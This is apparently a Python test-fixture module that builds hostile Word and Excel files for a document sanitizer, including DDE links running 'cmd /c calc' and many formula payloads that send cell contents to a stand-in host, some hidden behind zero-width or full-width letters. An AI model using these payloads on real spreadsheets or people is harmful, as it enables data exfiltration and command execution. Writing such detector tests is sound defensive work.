"""The parts that hostile Word and Excel files are put together from."""

from tests.hostile.packages import S, docx, replaced, sheet_parts, typed, word_parts, xlsx

ACTIVE, DAMAGED, BOMB = "active_content", "damaged", "bomb"
MEGABYTE = 1024 * 1024
GOOD = docx()


def word(**contents):
    return replaced(word_parts(), **contents)


def document(text: str, encoding: str = "utf-8") -> bytes:
    return word(document=text.encode(encoding))


def entities(body: str) -> bytes:
    return document(f"<!DOCTYPE w [{body}]><w><t>&a;</t></w>")


def linked(kind: str, target: str, mode: str = "External") -> bytes:
    return docx(rels=((kind, target, mode),))


def other_rels(text: str, name: str = "word/_rels/settings.xml.rels") -> bytes:
    return docx(parts={"word/settings.xml": "<s/>", name: text})


def held(kind: str, part: str, content_type: str, content: bytes | str = b"x") -> bytes:
    """A part of its own, declared and referred to."""
    target = part.removeprefix("word/")
    return docx(rels=((kind, target),), more_types=typed(part, content_type), parts={part: content})


def book(kind: str, part: str, content_type: str, content: bytes | str = "<x/>", **more) -> bytes:
    target = part.removeprefix("xl/")
    parts = {part: content, **more.pop("parts", {})}
    return xlsx(rels=((kind, target),), more_types=typed(part, content_type), parts=parts, **more)


def coded(runs: str) -> bytes:
    """A field between whose marks these elements stand, before its result."""
    mark = '<w:fldChar w:fldCharType="{}"/>'
    return docx(
        f"<w:p><w:r>{mark.format('begin')}{runs}{mark.format('separate')}<w:t>x</w:t>{mark.format('end')}</w:r></w:p>"
    )


def nested_field() -> str:
    mark = '<w:fldChar w:fldCharType="{}"/>'
    inner = f"{mark.format('begin')}<w:instrText>QUOTE 68 68 69</w:instrText>{mark.format('end')}"
    return (
        f"<w:p><w:r>{mark.format('begin')}{inner}<w:instrText>"
        f" cmd</w:instrText>{mark.format('end')}</w:r></w:p>"
    )


LINK = f"{S}.externalLink+xml"
DDE = '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
ASKS = '_xlfn.WEBSERVICE("http://vi.du/"&amp;A1)'
FORMULAS = {
    "the web after a power": f"2^{ASKS}",
    "the web as the end of an area": f"A1:{ASKS}",
    "the web in braces": f"{{1,2}}%{ASKS}",
    "the web after the sign of one value": f"@{ASKS}",
    "the web, a blank before the bracket": '_xlfn.WEBSERVICE ("http://vi.du/")',
    "the web in a condition": f"IF(A1=1,{ASKS},2)",
    "the web handed on as a function": (
        '_xlfn.LET(_xlpm.f,_xleta.WEBSERVICE,_xlpm.f("http://vi.du/"))'
    ),
    "a picture from the web": '1^_xlfn.IMAGE("http://vi.du/a.png")',
    "a translation": 'A1:_xlfn.TRANSLATE(A1,"vi","en")',
    "prices of shares": '_xlfn.STOCKHISTORY("MSFT",1)',
    "a program in the cloud": "_xlfn._xlws.PY(0,1)",
    "data that come by themselves": 'A1%RTD("a.b",,"c")',
    "a cube": 'CUBEVALUE("a","b")',
    "an old macro": 'EVALUATE("A1")',
    "a function of an add-in": "_xludf.DOCSO(A1)",
    "a function that nobody knows": "NEWEST.THING(A1)",
    "wide letters": "\uff37\uff25\uff22SERVICE(A1)",
    "a hidden letter": 'WEBSERVICE\u200b("http://vi.du/")',
    "DDE without a word before": "A1^cmd|'/c calc'!A0",
    "DDE in quotes": "'cmd'|'/c calc'!A0",
    "DDE as if it were a sheet": "'cmd|calc'!A0",
    "a text without an end": '"a',
    "a name without an end": "'a!A1",
    "a bracket without an end": "[1!A1",
    "an address put together": 'INDIRECT("\'http://vi.du/"&amp;A1&amp;"\'#$Sheet1.A1")',
    "an address put together in pieces": (
        'SUM(1,INDIRECT(CONCATENATE("\'htt","p:/","/vi.du/")&amp;A1))'
    ),
    "a file put together": 'INDIRECT ("\'FILE:"&amp;A1)',
    "another machine put together": "INDIRECT(\"'\\\\may-la\\a'!A1\")",
    "a file put together, as LibreOffice writes it": "INDIRECT(\"'C:\\a.ods'#$Sheet1.A1\")",
    "another workbook put together": 'INDIRECT("\'["&amp;A1&amp;"]Một\'!A1")',
    "a formula of Google Sheets": '__xludf.DUMMYFUNCTION("IMPORTXML(""http://vi.du/"",""//a"")")',
    "a formula of Google Sheets behind a cell": (
        '__xludf.DUMMYFUNCTION(A1&amp;"IMPORTXML(""http://vi.du/"")")'
    ),
    "a formula of Google Sheets in pieces": '__xludf.DUMMYFUNCTION("IMPORT"&amp;"DATA(A1)")',
    "a formula of Google Sheets, put together": (
        '__xludf.DUMMYFUNCTION(CONCATENATE("IMPORT","DATA(A1)"))'
    ),
    "a formula of Google Sheets that goes on": '__xludf.DUMMYFUNCTION("SUM(A1)"&amp;A1)',
}


def cell(formula: str) -> bytes:
    return xlsx(f'<row r="3"><c r="B3"><f>{formula}</f></c></row>')


def sheet_with(more: str) -> bytes:
    return replaced(sheet_parts(), sheet=f"<worksheet><sheetData/>{more}</worksheet>")
